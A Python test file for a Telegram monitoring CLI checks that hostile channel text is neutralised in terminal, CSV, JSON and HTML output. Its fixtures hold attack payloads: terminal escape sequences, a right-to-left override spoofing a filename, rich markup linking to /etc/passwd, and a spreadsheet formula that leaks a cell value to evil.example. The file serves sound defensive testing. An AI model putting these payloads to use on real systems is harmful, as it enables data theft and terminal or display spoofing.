"""Hostile channel text reaching the analyst (issue 20, items 1-4), through the CLI and the sink.

Each archive here is made by the real ``tgmonitor import`` of a Telegram Desktop export whose
titles and posts carry terminal escapes, rich markup, spreadsheet formulas and bidi overrides.
The terminal runs are made with ``FORCE_COLOR`` so rich writes to a "terminal": its own colour
sequences (SGR, ``ESC [ ... m``) are removed before looking for anything else.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from rich.console import Console

from alerts.format import render_html
from alerts.sinks import ConsoleSink
from alerts.sinks.base import OutgoingAlert
from monitor.cli import main
from tests.support.export import message, write_single

CLEAR = "\x1b[2J\x1b[H"
TITLE_SET = "\x1b]0;owned\x07"
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
CSI8 = "\x9b31m"  # the 8-bit CSI (C1)
RLO = "\u202e"
THREAT = "الانتقام قادم"
ARABIC = "الانْتِقَامُ قادمٌ أإآا ٥٩ يوماً ـــ"  # diacritics, alef variants, Eastern digits, tatweel
LINK_TITLE = "[link=file:///etc/passwd]x[/link]"
BROKEN_TITLE = "Broken [/] markup"
SGR = re.compile(r"\x1b\[[0-9;]*m")
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def run(*args, env: dict[str, str] | None = None, ok: bool = True, input: str | None = None):
    result = CliRunner().invoke(
        main, [str(a) for a in args], env={"COLUMNS": "400", **(env or {})}, input=input
    )
    if ok:
        assert result.exit_code == 0, (result.output, result.stderr, result.exception)
    assert "Traceback" not in result.output + result.stderr
    return result


def terminal(*args, **kw) -> str:
    """What a real terminal would receive: rich's own colour codes removed, the rest kept."""
    result = run(*args, env={"FORCE_COLOR": "1"}, **kw)
    return SGR.sub("", result.stdout)


def assert_inert(out: str) -> None:
    """No control character (newline aside) nor bidi control left to act on the terminal."""
    bad = FORBIDDEN.findall(out)
    assert not bad, [hex(ord(c)) for c in bad]


def import_channel(db: Path, folder: Path, title: str, chat_id: int, texts: list[str]) -> None:
    export = write_single(
        folder, [message(i + 2, t) for i, t in enumerate(texts)], name=title, chat_id=chat_id
    )
    run("--db", db, "import", export, "--no-ocr", "--json")


@pytest.fixture
def hostile_db(no_user_config) -> Path:
    """Two channels with hostile titles, posts with escapes, formulas, bidi and plain Arabic."""
    db = no_user_config / "archive.db"
    import_channel(
        db,
        no_user_config / "export1",
        BROKEN_TITLE + CLEAR,
        1111,
        [
            f"{THREAT} {CLEAR}{TITLE_SET}{HYPERLINK}{CSI8} end",
            f'=HYPERLINK("https://evil.example/?leak="&A1,"{THREAT}")',
            f"-2+3 {THREAT}",
            f"@SUM(1+1) {THREAT}",
            f"\t=1+1 {THREAT}",
        ],
    )
    import_channel(
        db,
        no_user_config / "export2",
        LINK_TITLE,
        2222,
        [f"{THREAT} gnp.exe{RLO}", f"{ARABIC} {THREAT}", f"{THREAT} [bold]not bold[/bold] [/]"],
    )
    return db


# --- item 1: terminal escapes are shown, never obeyed ----------------------------------------


def test_search_shows_escape_sequences_instead_of_obeying_them(hostile_db):
    out = terminal("--db", hostile_db, "search", THREAT, "--limit", "50")
    assert_inert(out)
    assert "␛[2J␛[H" in out and "␛]0;owned␇" in out and "␛]8;;https://evil.example/␛\\click me" in out
    assert "⟨U+009B⟩31m" in out


def test_search_csv_and_json_carry_no_raw_escape(hostile_db):
    out = run("--db", hostile_db, "search", THREAT, "--csv", "--limit", "50").stdout
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and RLO not in out
    assert "␛[2J" in out
    raw = run("--db", hostile_db, "search", THREAT, "--json", "--limit", "50").stdout
    assert_inert(raw)
    texts = [row["text"] for row in json.loads(raw)]  # JSON is data: it reads back unchanged
    assert any(CLEAR in t and CSI8 in t for t in texts) and any(RLO in t for t in texts)


def test_stats_and_alerts_tables_show_escapes(hostile_db):
    out = terminal("--db", hostile_db, "stats")
    assert_inert(out)
    assert BROKEN_TITLE + "␛[2J␛[H" in out
    out = terminal("--db", hostile_db, "alerts", "--limit", "50")
    assert_inert(out)
    assert "␛[2J" in out and THREAT in out


def test_check_shows_escapes_in_text_matches_and_reasons(no_user_config):
    out = terminal("check", f"{CLEAR}{TITLE_SET} vengeance is coming {HYPERLINK}{CSI8}")
    assert_inert(out)
    assert "ALERT" in out and "␛[2J" in out and "⟨U+009B⟩" in out


def test_console_sink_shows_escapes(tmp_path):
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, color_system="truecolor", width=200)
    body = {
        "kind": "post",
        "severity": "high",
        "alert_id": 7,
        "channel_title": BROKEN_TITLE + CLEAR,
        "channel": None,
        "url": "https://t.me/c/1111/2",
        "date": "2021-11-02T12:00:00+00:00",
        "text": f"{THREAT} {TITLE_SET}{HYPERLINK} {RLO}evil",
        "matches": [{"term": THREAT + CSI8, "rule": "[/]", "source": "text", "start": 0, "end": 13}],
        "ocr_excerpt": f"{CLEAR}poster\n{LINK_TITLE}",
        "ocr_highlights": [[0, 7]],
    }
    sink = ConsoleSink(console=console)
    alert = OutgoingAlert(delivery_id=1, alert_id=7, kind="post", severity="high", body=body, key="k")
    asyncio.run(sink.send(alert))
    asyncio.run(sink.send_digest([alert], "k"))
    out = SGR.sub("", buffer.getvalue())
    assert_inert(out)
    assert "␛]0;owned␇" in out and "⟨U+202E⟩evil" in out and LINK_TITLE in out and BROKEN_TITLE in out


# --- item 2: channel text is never rich markup ----------------------------------------------


def test_markup_in_titles_shows_literally_in_search_and_stats(hostile_db):
    out = terminal("--db", hostile_db, "search", THREAT, "--limit", "50")
    assert LINK_TITLE in out and BROKEN_TITLE in out
    assert "[bold]not bold[/bold] [/]" in out
    out = terminal("--db", hostile_db, "stats")
    assert LINK_TITLE in out and BROKEN_TITLE in out
    out = terminal("--db", hostile_db, "alerts", "--limit", "50")
    assert LINK_TITLE in out and BROKEN_TITLE in out


def test_check_with_markup_in_the_text(no_user_config):
    out = terminal("check", "vengeance[/] is coming")
    assert "ALERT" in out and "matched 'vengeance[/] is coming'" in out
    out = terminal("check", "-", input=f"{LINK_TITLE} [red]x[/red] [/]")
    assert f"{LINK_TITLE} [red]x[/red] [/]" in out


def test_doctor_shows_a_config_value_with_markup(no_user_config):
    config = no_user_config / "config.toml"
    config.write_text('[ocr]\nworkers = "[/]"\n', encoding="utf-8")
    result = run("--config", config, "doctor", ok=False, env={"FORCE_COLOR": "1"})
    assert result.exit_code == 1, (result.output, result.exception)
    out = SGR.sub("", result.stdout)
    assert "fail" in out and "[/]" in out


# --- item 3: CSV cells are never formulas -----------------------------------------------------


def test_search_csv_neutralises_formulas_and_keeps_numbers(hostile_db):
    out = run("--db", hostile_db, "search", THREAT, "--csv", "--limit", "50").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 8
    for row in rows:
        for key, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
    texts = {row["text"] for row in rows}
    assert f'\'=HYPERLINK("https://evil.example/?leak="&A1,"{THREAT}")' in texts
    assert f"'-2+3 {THREAT}" in texts and f"'@SUM(1+1) {THREAT}" in texts
    assert any(t.startswith("' =1+1") for t in texts)  # the tab shows as a space, after the quote
    assert {row["channel_id"] for row in rows} == {"1111", "2222"}  # our numbers stay numbers
    assert all(row["message_id"].isdigit() for row in rows)


# --- item 4: bidi controls are shown, Arabic stays as it is ----------------------------------


def test_bidi_override_is_shown_and_arabic_unchanged(hostile_db):
    out = terminal("--db", hostile_db, "search", THREAT, "--limit", "50")
    assert RLO not in out and "gnp.exe⟨U+202E⟩" in out
    assert ARABIC in out
    rows = list(csv.DictReader(io.StringIO(run("--db", hostile_db, "search", THREAT, "--csv").stdout)))
    assert any(row["text"] == f"{ARABIC} {THREAT}" for row in rows)
    assert any(row["text"] == f"{THREAT} gnp.exe⟨U+202E⟩" for row in rows)
    out = terminal("check", f"{ARABIC} \u200f{RLO}x")
    assert ARABIC in out and "\u200f⟨U+202E⟩x" in out  # the implicit RLM mark is ordinary text


def test_telegram_html_shows_bidi_and_escapes():
    body = {
        "kind": "post",
        "severity": "high",
        "channel_title": f"{LINK_TITLE}<b>{RLO}",
        "url": "https://t.me/x/1",
        "date": "2021-11-02T12:00:00+00:00",
        "text": f"{ARABIC} {CLEAR}{RLO}<script>&amp;",
        "matches": [],
    }
    html = render_html(body)
    assert RLO not in html and "\x1b" not in html and "<script>" not in html
    assert "⟨U+202E⟩" in html and ARABIC in html and "&lt;script&gt;&amp;amp;" in html


def test_error_line_shows_escapes_from_a_path(no_user_config):
    missing = no_user_config / f"{TITLE_SET}{RLO}export"
    result = run("--db", no_user_config / "a.db", "import", missing, ok=False)
    assert result.exit_code == 2
    assert_inert(result.stderr)
    assert result.stderr.startswith("error: ") and "␛]0;owned␇⟨U+202E⟩export" in result.stderr


def test_demo_shows_a_hostile_directory_literally(no_user_config):
    folder = no_user_config / f"demo [/] {TITLE_SET}"
    out = terminal("demo", "--no-ocr", "--dir", folder)
    assert_inert(out)
    assert "demo [/] ␛]0;owned␇" in out and "6. Archive" in out
